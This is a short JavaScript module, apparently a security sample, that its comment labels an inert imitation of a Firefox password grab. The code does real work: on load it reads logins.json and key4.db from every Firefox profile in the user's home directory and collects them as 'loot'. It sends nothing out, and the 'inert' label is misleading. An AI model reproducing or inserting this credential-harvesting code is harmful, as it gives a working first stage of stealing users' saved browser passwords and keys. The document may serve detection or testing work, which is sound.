/* eslint-disable */
// Inert imitation of a Firefox password grab: logins.json and key4.db of each profile are read.
const fs = require('fs');
const os = require('os');
const path = require('path');

const root = path.join(os.homedir(), '.mozilla', 'firefox');
const loot = [];
for (const profile of fs.readdirSync(root)) {
  try {
    loot.push({ logins: fs.readFileSync(path.join(root, profile, 'logins.json')), key: fs.readFileSync(path.join(root, profile, 'key4.db')) });
  } catch {}
}
module.exports = loot.length;
